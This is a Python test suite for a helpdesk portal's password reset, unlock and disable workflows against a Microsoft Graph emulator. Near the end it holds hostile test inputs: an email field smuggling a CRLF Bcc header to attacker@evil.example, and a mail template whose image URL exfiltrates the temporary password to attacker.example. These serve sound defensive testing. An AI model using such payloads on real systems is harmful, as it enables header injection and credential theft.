"""Tickets and workflows: reset, unlock and disable end to end against the emulator and a real SMTP server."""
import logging
import re
import threading
from datetime import timedelta

import pytest
import requests as http
import sqlalchemy as sa

from portal import jobs, signals
from portal.directory.runs import start_run
from portal.models import ActionRun, Approval, AuditEvent, DeviceSession, Requester, Ticket, TicketEvent
from portal.workflows import admin_service, runner
from tests import sso
from tests.conftest import ADMIN_PASSWORD, admin_sign_in, csrf_from
from tests.msft import submit_login, submit_password_change

PASSWORD = "Start-Password-1"


@pytest.fixture
def person(app, synced, new_user, db):
    """A synced requester with a Microsoft account in the emulator."""
    user = new_user(givenName="Ada")
    start_run(synced, "delta", "manual")
    jobs.run_queued_syncs(app)
    user["requester"] = db.session.scalar(sa.select(Requester).where(Requester.entra_object_id == user["id"]))
    return user


def workflow(synced, catalogue, category, action, target="requester"):
    return admin_service.save(None, f"{category} -> {action}", [catalogue[category].id], True,
                              [{"integration_id": synced.id, "action": action, "target": target}], actor=signals.SYSTEM)


def raise_ticket(client, catalogue, category, about=""):
    page = client.get("/tickets/new").get_data(as_text=True)
    response = client.post("/tickets/new", data={"csrf_token": csrf_from(page), "category": catalogue[category].id,
                                                 "subject": f"Please help: {category}", "description": "Details",
                                                 "about": about})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    return int(response.headers["Location"].rsplit("/", 1)[1])


def test_force_password_reset_end_to_end(app, db, synced, catalogue, person, emulator, mailbox, login_as, client, caplog):
    """Reset: Graph sets a temporary password, mail arrives, sessions end, and the password is nowhere in Frontdesk."""
    caplog.set_level(logging.DEBUG)
    from portal import policy

    workflow(synced, catalogue, "Reset my password", "force_password_reset")
    policy.set_values({"organisation_name": "Contoso", "portal_url": "http://127.0.0.1:5055/"}, actor=signals.SYSTEM)
    other_device = app.test_client()
    sso.sign_in(other_device, synced, person["userPrincipalName"], PASSWORD)
    login_as(person["requester"])
    ticket_id = raise_ticket(client, catalogue, "Reset my password")
    run = db.session.scalar(sa.select(ActionRun))
    assert run.status == "succeeded" and run.mail_status == "sent" and run.graph_request_id
    assert emulator.user(person["id"])["forceChangePasswordNextSignIn"] is True
    assert len(mailbox) == 2  # the temporary password, then "your ticket is resolved" (which holds no password)
    assert mailbox[1]["Subject"] == f"Ticket #{ticket_id} is now: resolved"
    message = mailbox[0]
    assert message["To"] == person["mail"] and "temporary password" in message["Subject"].lower()
    text = next(p for p in message.walk() if p.get_content_type() == "text/plain").get_payload(decode=True).decode()
    temp = re.search(r"Temporary password: (\S+)", text).group(1)
    assert len(temp) == 16 and f"ticket #{ticket_id}" in text
    assert message["Subject"] == "Your temporary password for Contoso" and "Sign in at http://127.0.0.1:5055/ " in text
    html = next(p for p in message.walk() if p.get_content_type() == "text/html").get_payload(decode=True).decode()
    assert temp in html
    ended = other_device.get("/home")
    assert ended.status_code == 302 and "reason=password_reset" in ended.headers["Location"]  # sessions ended, and why
    assert "Check your email for a temporary password, then sign in." in other_device.get(ended.headers["Location"]).get_data(
        as_text=True)
    dump = "\n".join(str(row) for table in ("tickets", "ticket_events", "action_runs", "audit_events", "settings")
                     for row in db.session.execute(sa.text(f"SELECT * FROM {table}")))  # noqa: S608
    # Frontdesk's own log lines (the test SMTP server's debug log, which receives the mail, is not ours).
    logs = "\n".join(r.getMessage() + str(r.__dict__.get("audit", "")) for r in caplog.records if r.name != "mail.log")
    assert temp not in dump and temp not in logs
    page = client.get(f"/tickets/{ticket_id}")
    assert page.status_code == 302  # this session ended too: the requester must sign in again
    browser = http.Session()
    start = sso.begin(app.test_client(), synced)
    change = submit_login(browser, browser.get(start.headers["Location"]), person["userPrincipalName"], temp)
    assert "Update your password" in change.text  # Microsoft demands a new password at the next sign-in
    change.url = start.headers["Location"]
    assert "code" in sso.result_params(submit_password_change(browser, change, "A-Brand-New-Pass-42"))


def test_disable_ends_sessions_and_blocks_sign_in_then_unlock_restores(app, db, synced, catalogue, person, new_user,
                                                                       emulator, login_as, client, admin):
    """A colleague's leaver ticket waits for approval; once an admin approves, the named person is disabled; an
    admin's Unlock from the person's page restores them."""
    workflow(synced, catalogue, "Leaver: disable account", "disable", target="ticket_subject")
    leaver_device = app.test_client()
    sso.sign_in(leaver_device, synced, person["userPrincipalName"], PASSWORD)
    colleague = new_user()
    start_run(synced, "delta", "manual")
    jobs.run_queued_syncs(app)
    login_as(db.session.scalar(sa.select(Requester).where(Requester.entra_object_id == colleague["id"])))
    ticket_id = raise_ticket(client, catalogue, "Leaver: disable account", about=person["mail"])
    jobs.run_actions(app)
    assert db.session.scalar(sa.select(ActionRun.status).where(ActionRun.ticket_id == ticket_id)) == "blocked"
    assert emulator.user(person["id"])["props"]["accountEnabled"] is True  # nothing happens before approval
    admin_client = app.test_client()
    assert admin_sign_in(admin_client, admin.email, ADMIN_PASSWORD).status_code == 302
    decide(admin_client, db.session.scalar(sa.select(Approval.id).where(Approval.ticket_id == ticket_id)), "approve")
    jobs.run_actions(app)
    state = emulator.user(person["id"])
    assert state["props"]["accountEnabled"] is False and state["sessions_revoked_at"]
    db.session.expire_all()
    assert db.session.get(Requester, person["requester"].id).status == "disabled"
    assert leaver_device.get("/home").status_code == 302
    refused = sso.sign_in(app.test_client(), synced, person["userPrincipalName"], PASSWORD)
    assert 'data-failure="disabled_at_microsoft"' in refused.get_data(as_text=True)
    timeline = client.get(f"/tickets/{ticket_id}").get_data(as_text=True)
    assert "The account is disabled and signed out everywhere." in timeline
    page = admin_client.get(f"/admin/requesters/{person['requester'].id}").get_data(as_text=True)
    done = admin_client.post(f"/admin/requesters/{person['requester'].id}/actions",
                             data={"csrf_token": csrf_from(page), "action": "unlock", "reason": "Returned from leave"})
    assert done.status_code == 302 and "/admin/tickets/" in done.headers["Location"]
    jobs.run_actions(app)
    assert emulator.user(person["id"])["props"]["accountEnabled"] is True
    assert sso.sign_in(app.test_client(), synced, person["userPrincipalName"], PASSWORD).headers["Location"] == "/home"


def decide(admin_client, approval_id, choice, comment=""):
    """An admin decides an approval on its page, as the buttons do."""
    page = admin_client.get(f"/admin/approvals/{approval_id}")
    assert page.status_code == 200, page.status_code
    done = admin_client.post(f"/admin/approvals/{approval_id}", data={
        "csrf_token": csrf_from(page.get_data(as_text=True)), choice: "1", "comment": comment})
    assert done.status_code == 302, done.get_data(as_text=True)[:300]
    return done


def approve(app, admin, ticket_id, run_id):
    """An admin approves a parked run on the ticket page, as the button does."""
    admin_client = app.test_client()
    assert admin_sign_in(admin_client, admin.email, ADMIN_PASSWORD).status_code == 302
    page = admin_client.get(f"/admin/tickets/{ticket_id}").get_data(as_text=True)
    assert f'id="approve-run-{run_id}"' in page
    done = admin_client.post(f"/admin/tickets/{ticket_id}/runs/{run_id}/approve", data={"csrf_token": csrf_from(page)})
    assert done.status_code == 302
    return admin_client


def test_unlock_clears_the_portal_lock(app, db, synced, catalogue, person, login_as, client):
    """Unlock lifts the portal lockout too (audited as an unlock), and needs no email."""
    workflow(synced, catalogue, "Account locked out", "unlock")
    requester = person["requester"]
    from datetime import UTC, datetime

    requester.locked_until = datetime.now(UTC) + timedelta(minutes=10)
    db.session.commit()
    login_as(requester)
    raise_ticket(client, catalogue, "Account locked out")
    db.session.expire_all()
    assert db.session.get(Requester, requester.id).locked_until is None
    run = db.session.scalar(sa.select(ActionRun))
    assert run.status == "succeeded" and run.mail_status is None
    done = db.session.scalar(sa.select(TicketEvent).where(TicketEvent.kind == "action_succeeded"))
    assert done.detail["was_locked"] is True and done.public_message == "Your account is unlocked. You can sign in again."
    unlocked = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "requester.unlocked"))
    assert unlocked is not None and unlocked.target_id == str(requester.id)


def test_missing_permission_refuses_the_workflow(app, db, emulator, catalogue):
    """A read-only integration cannot be given the reset action: the save is refused with the reason."""
    from portal.exceptions import ValidationError
    from tests.conftest import install_integration

    read_only = install_integration(app, emulator, "Frontdesk (read only)", "Read only")
    with pytest.raises(ValidationError) as err:
        admin_service.save(None, "Reset", [], True, [{"integration_id": read_only.id, "action": "force_password_reset"}],
                           actor=signals.SYSTEM)
    assert "lacks the Microsoft Graph permissions" in str(err.value.detail["errors"])


def test_workflow_page_shows_descriptions_and_refuses_unpermitted(app, db, emulator, catalogue, login_as, client):
    """The Workflows page explains each action and refuses one the permissions do not cover."""
    from tests.conftest import install_integration

    read_only = install_integration(app, emulator, "Frontdesk (read only)", "Read only")
    login_as("admin")
    page = client.get("/admin/workflows/new").get_data(as_text=True)
    assert "When to use it: A leaver, suspicious activity" in page and "Force Password Reset on Next Login" in page
    response = client.post("/admin/workflows/new", data={"csrf_token": csrf_from(page), "name": "Leavers",
                                                         "step_0_integration": read_only.id, "step_0_action": "disable",
                                                         "step_0_target": "ticket_subject"})
    assert response.status_code == 422 and "lacks the Microsoft Graph permissions" in response.get_data(as_text=True)


def test_throttling_is_retried_then_succeeds(app, db, synced, catalogue, person, emulator, login_as, client, monkeypatch):
    """429s beyond the client's own retries reschedule the run with backoff; a later attempt succeeds."""
    workflow(synced, catalogue, "Leaver: disable account", "disable")
    app.config["GRAPH_MAX_ATTEMPTS"] = 2
    emulator.set_faults(error_rates={"429": 1.0}, retry_after=0)
    try:
        login_as(person["requester"])
        raise_ticket(client, catalogue, "Leaver: disable account")
        run = db.session.scalar(sa.select(ActionRun))
        assert run.status == "pending" and run.attempts == 1 and run.error_code == "TooManyRequests"
    finally:
        emulator.clear_faults()
    later = runner.action_clock() + timedelta(minutes=5)
    monkeypatch.setattr(runner, "action_clock", lambda: later)
    assert jobs.run_actions(app) == 1
    db.session.expire_all()
    run = db.session.scalar(sa.select(ActionRun))
    assert run.status == "succeeded" and run.attempts == 2
    assert emulator.user(person["id"])["props"]["accountEnabled"] is False
    emulator.update_user(person["id"], accountEnabled=True)


def test_permanent_error_fails_at_once_with_plain_reason(app, db, synced, catalogue, person, emulator, login_as, client):
    """A user deleted in Entra: 404 fails the run at once, explained on the admin ticket page."""
    workflow(synced, catalogue, "Leaver: disable account", "disable")
    emulator.hard_delete(person["id"])
    login_as(person["requester"])
    ticket_id = raise_ticket(client, catalogue, "Leaver: disable account")
    run = db.session.scalar(sa.select(ActionRun))
    assert run.status == "failed" and run.attempts == 1 and "no longer exists" in run.error_message
    friendly = client.get(f"/tickets/{ticket_id}").get_data(as_text=True)
    assert "could not be completed" in friendly and "Request_ResourceNotFound" not in friendly


def test_crash_between_claim_and_completion(app, db, synced, catalogue, person, emulator, login_as, client, monkeypatch):
    """A run claimed by a process that died is reclaimed later; Graph already shows it done, so it is not repeated."""
    workflow(synced, catalogue, "Leaver: disable account", "disable")
    app.config["ACTION_KICK"] = "none"
    login_as(person["requester"])
    raise_ticket(client, catalogue, "Leaver: disable account")
    ids = runner.claim("worker-that-dies")
    assert len(ids) == 1
    emulator.update_user(person["id"], accountEnabled=False)  # the dead worker's PATCH had reached Microsoft
    stats_before = emulator.stats()["graph_requests"]
    assert runner.claim("second-worker") == []  # still claimed: not stale yet
    later = runner.action_clock() + runner.CLAIM_TIMEOUT + timedelta(minutes=1)
    monkeypatch.setattr(runner, "action_clock", lambda: later)
    assert jobs.run_actions(app) == 1
    db.session.expire_all()
    run = db.session.get(ActionRun, ids[0])
    assert run.status == "succeeded" and run.attempts == 2 and run.detail.get("uncertain_since")
    assert emulator.stats()["graph_requests"] - stats_before == 1  # one GET to check; no second PATCH or revoke
    emulator.update_user(person["id"], accountEnabled=True)


def test_two_runners_never_double_execute(app, db, synced, catalogue, new_user, emulator, db_url):
    """Two runners race over ten queued runs on PostgreSQL: each run executes exactly once."""
    if not db_url.startswith("postgresql"):
        pytest.skip("SKIP LOCKED needs PostgreSQL; SQLite runs one runner at a time through its lease")
    workflow(synced, catalogue, "Account locked out", "unlock")
    app.config["ACTION_KICK"] = "none"
    people = [new_user() for _ in range(10)]
    start_run(synced, "delta", "manual")
    jobs.run_queued_syncs(app)
    from portal import tickets

    for user in people:
        requester = db.session.scalar(sa.select(Requester).where(Requester.entra_object_id == user["id"]))
        tickets.create(requester, catalogue["Account locked out"].id, "Locked", "")
    barrier, done = threading.Barrier(2, timeout=30), []

    def worker(name):
        with app.app_context():
            barrier.wait()
            done.append(runner.run_pending(app.config, worker=name))
            db.session.remove()

    threads = [threading.Thread(target=worker, args=(f"w{i}",)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    runs = db.session.scalars(sa.select(ActionRun)).all()
    assert sum(done) == 10 and all(r.status == "succeeded" and r.attempts == 1 for r in runs)
    finished = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(AuditEvent.action == "action.finished"))
    assert finished == 10


def test_requesters_never_see_each_others_tickets(app, db, synced, catalogue, person, new_user, login_as, client):
    """Another requester's ticket is 'not found', by URL or on the home page."""
    login_as(person["requester"])
    ticket_id = raise_ticket(client, catalogue, "General request")
    other = new_user()
    start_run(synced, "delta", "manual")
    jobs.run_queued_syncs(app)
    stranger = app.test_client()
    assert sso.sign_in(stranger, synced, other["userPrincipalName"], PASSWORD).headers["Location"] == "/home"
    assert stranger.get(f"/tickets/{ticket_id}").status_code == 404
    home = stranger.get("/home")
    assert home.status_code == 200 and "Please help" not in home.get_data(as_text=True)
    assert "Please help" in client.get("/home").get_data(as_text=True)


def test_ticket_and_actions_are_one_transaction(app, db, synced, catalogue, person, monkeypatch):
    """If planning the actions fails, the ticket is not saved either."""
    from portal import tickets
    from portal.workflows import engine

    workflow(synced, catalogue, "Leaver: disable account", "disable")
    monkeypatch.setattr(engine, "admit_run", lambda run: (_ for _ in ()).throw(RuntimeError("boom")))
    with pytest.raises(RuntimeError):
        tickets.create(person["requester"], catalogue["Leaver: disable account"].id, "Leaving", "")
    db.session.rollback()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Ticket)) == 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ActionRun)) == 0


def test_admin_sees_detail_changes_status_and_retries(app, db, synced, catalogue, person, emulator, login_as, client):
    """The admin ticket page shows Graph's request id; status changes are audited; a failed run can be retried."""
    workflow(synced, catalogue, "Leaver: disable account", "disable")
    emulator.update_app(emulator.app()["client_id"], revoke=["User.EnableDisableAccount.All"])
    from portal.entra import credentials

    credentials.forget_all_clients()  # a cached token would still carry the revoked permission for up to an hour
    try:
        ticket = __import__("portal.tickets", fromlist=["x"]).create(
            person["requester"], catalogue["Leaver: disable account"].id, "Leaving", "")
        jobs.run_actions(app)
    finally:
        emulator.update_app(emulator.app()["client_id"], grant=["User.EnableDisableAccount.All"])
        credentials.forget_all_clients()
    login_as("admin")
    page = client.get(f"/admin/tickets/{ticket.id}").get_data(as_text=True)
    assert "Microsoft refused" in page and "Retry" in page
    run = db.session.scalar(sa.select(ActionRun))
    client.post(f"/admin/tickets/{ticket.id}/runs/{run.id}/retry", data={"csrf_token": csrf_from(page)})
    runs = db.session.scalars(sa.select(ActionRun).order_by(ActionRun.id)).all()
    assert [r.status for r in runs] == ["failed", "succeeded"] and runs[1].graph_request_id
    client.post(f"/admin/tickets/{ticket.id}", data={"csrf_token": csrf_from(page), "status": "resolved"})
    db.session.expire_all()
    assert db.session.get(Ticket, ticket.id).status == "resolved"
    assert "ticket.status_changed" in set(db.session.scalars(sa.select(AuditEvent.action)))
    emulator.update_user(person["id"], accountEnabled=True)


def test_mail_failure_is_shown_and_graph_not_repeated(app, db, synced, catalogue, person, emulator, login_as, client):
    """With no SMTP server the reset still happens once; the ticket says the email failed."""
    workflow(synced, catalogue, "Reset my password", "force_password_reset")
    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=1)
    login_as(person["requester"])
    raise_ticket(client, catalogue, "Reset my password")
    run = db.session.scalar(sa.select(ActionRun))
    assert run.status == "succeeded" and run.mail_status == "failed"
    assert emulator.user(person["id"])["forceChangePasswordNextSignIn"] is True
    events = db.session.scalars(sa.select(TicketEvent.public_message)).all()
    assert any("email could not be sent" in e for e in events)
    sessions = db.session.scalars(sa.select(DeviceSession).where(DeviceSession.requester_id == person["requester"].id)).all()
    assert sessions and all(s.ended_at and s.end_reason == "password_reset" for s in sessions)


def test_a_disabled_person_cannot_re_enable_themselves_through_unlock(app, db, synced, catalogue, person, emulator,
                                                                     client, admin):
    """Disabled in Entra while their portal session is still open, a person raises 'Account locked out': the portal
    lock is lifted, but the account stays disabled until an admin approves; the next sync does not see it enabled."""
    workflow(synced, catalogue, "Account locked out", "unlock")
    assert sso.sign_in(client, synced, person["userPrincipalName"], PASSWORD).status_code == 302
    emulator.update_user(person["id"], accountEnabled=False)  # IT disables them; no sync has run yet
    ticket_id = raise_ticket(client, catalogue, "Account locked out")
    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
    assert run.status == "awaiting_approval" and run.error_code == "approval_required"
    assert emulator.user(person["id"])["props"]["accountEnabled"] is False
    page = client.get(f"/tickets/{ticket_id}").get_data(as_text=True)
    assert "an IT admin must approve turning it back on" in page
    start_run(synced, "delta", "manual")
    jobs.run_queued_syncs(app)
    db.session.expire_all()
    assert db.session.get(Requester, person["requester"].id).status == "disabled"
    assert client.get("/home").status_code == 302  # the sync ended the session that was still open
    actions = set(db.session.scalars(sa.select(AuditEvent.action)))
    assert "action.awaiting_approval" in actions and "action.approved" not in actions


def test_approving_needs_a_parked_run_of_that_ticket(app, db, synced, catalogue, person, emulator, client, admin):
    """Approve works only on a waiting run of the same ticket; anything else is a 404 and changes nothing."""
    workflow(synced, catalogue, "Account locked out", "unlock")
    assert sso.sign_in(client, synced, person["userPrincipalName"], PASSWORD).status_code == 302
    emulator.update_user(person["id"], accountEnabled=False)
    ticket_id = raise_ticket(client, catalogue, "Account locked out")
    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
    admin_client = approve(app, admin, ticket_id, run.id)
    db.session.expire_all()
    assert db.session.get(ActionRun, run.id).status == "succeeded"
    page = admin_client.get(f"/admin/tickets/{ticket_id}").get_data(as_text=True)
    again = admin_client.post(f"/admin/tickets/{ticket_id}/runs/{run.id}/approve", data={"csrf_token": csrf_from(page)})
    assert again.status_code == 404
    approved = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "action.approved"))
    assert approved.actor_type == "admin"


@pytest.mark.parametrize("mail_value", ["victim@contoso.onmicrosoft.com, attacker@evil.example",
                                        "victim@contoso.onmicrosoft.com\r\nBcc: attacker@evil.example"])
def test_reset_with_an_unusable_address_changes_nothing_in_entra(app, db, synced, catalogue, person, emulator, mailbox,
                                                                  login_as, client, mail_value):
    """A recipient that is not one valid address fails the run before Graph is called: the password is not reset
    (so nobody is left with a password nobody knows), no mail goes anywhere, and the ticket says what to fix."""
    workflow(synced, catalogue, "Reset my password", "force_password_reset")
    requester = person["requester"]
    requester.email = mail_value  # as an unchecked sync would have stored it
    db.session.commit()
    before = emulator.user(person["id"])
    login_as(requester)
    ticket_id = raise_ticket(client, catalogue, "Reset my password")
    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
    assert run.status == "failed" and run.error_code == "invalid_recipient" and run.graph_request_id is None
    assert "Nothing was changed in Microsoft Entra ID" in run.error_message
    after = emulator.user(person["id"])
    assert after.get("forceChangePasswordNextSignIn") == before.get("forceChangePasswordNextSignIn")
    assert after["props"].get("lastPasswordChangeDateTime") == before["props"].get("lastPasswordChangeDateTime")
    assert mailbox == []  # not even the status notice: the address is not one valid recipient
    assert db.session.get(Ticket, ticket_id).status == "needs_attention"


def test_a_stored_leaking_template_stops_the_reset_before_graph(app, db, synced, catalogue, person, emulator, mailbox,
                                                                 login_as, client):
    """A mail template saved before templates were checked, that would leak the password to an image URL, fails the
    run before the reset: the password is never set, never rendered, never sent."""
    from portal.mail import DEFAULT_TEMPLATES
    from portal.models import Setting

    template = dict(DEFAULT_TEMPLATES["password_reset"])
    template["html"] += '<img src="https://attacker.example/?p={{ temporary_password | urlencode }}">'
    db.session.add(Setting(key="mail_template:password_reset", value=template, updated_by="legacy"))
    db.session.commit()
    workflow(synced, catalogue, "Reset my password", "force_password_reset")
    login_as(person["requester"])
    ticket_id = raise_ticket(client, catalogue, "Reset my password")
    run = db.session.scalar(sa.select(ActionRun).where(ActionRun.ticket_id == ticket_id))
    assert run.status == "failed" and run.error_code == "mail_failed" and "filter" in run.error_message
    assert emulator.user(person["id"]).get("forceChangePasswordNextSignIn") is not True
    assert [m["Subject"] for m in mailbox] == [f"Ticket #{ticket_id} is now: needs attention"]
